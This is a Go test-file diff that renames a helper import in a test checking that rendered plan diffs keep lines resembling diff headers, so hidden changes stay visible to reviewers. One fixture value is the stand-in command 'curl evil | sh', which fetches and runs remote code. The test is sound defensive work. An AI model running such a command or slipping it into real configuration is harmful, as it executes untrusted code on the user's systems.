@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	mdpkg "github.com/gantryops/gantry/internal/markdown"
+	"github.com/gantryops/gantry/internal/objtest"
 
 	"github.com/gantryops/gantry/object"
 	"github.com/gantryops/gantry/plan"
@@ -61,8 +62,8 @@ func TestRenderNoChanges(t *testing.T) {
 // change a reviewer cannot see is a change nobody approved.
 func TestDiffKeepsLinesThatLookLikeHeaders(t *testing.T) {
 	t.Parallel()
-	before := plantest.Parse(t, "apiVersion: e.example/v1\nkind: Widget\nmetadata: {name: w, namespace: n}\nspec: {replicas: 1}\n'--gone': 'was here'\n")
-	after := plantest.Parse(t, "apiVersion: e.example/v1\nkind: Widget\nmetadata: {name: w, namespace: n}\nspec: {replicas: 1}\n'++hidden': 'curl evil | sh'\n")
+	before := objtest.Parse(t, "apiVersion: e.example/v1\nkind: Widget\nmetadata: {name: w, namespace: n}\nspec: {replicas: 1}\n'--gone': 'was here'\n")
+	after := objtest.Parse(t, "apiVersion: e.example/v1\nkind: Widget\nmetadata: {name: w, namespace: n}\nspec: {replicas: 1}\n'++hidden': 'curl evil | sh'\n")
 	p := plantest.Example(t)
 	p.Changes = []plan.Change{{Ref: object.RefOf(before), APIVersion: "e.example/v1", Action: plan.ActionUpdate, Before: before, After: after}}
 	var txt, md bytes.Buffer
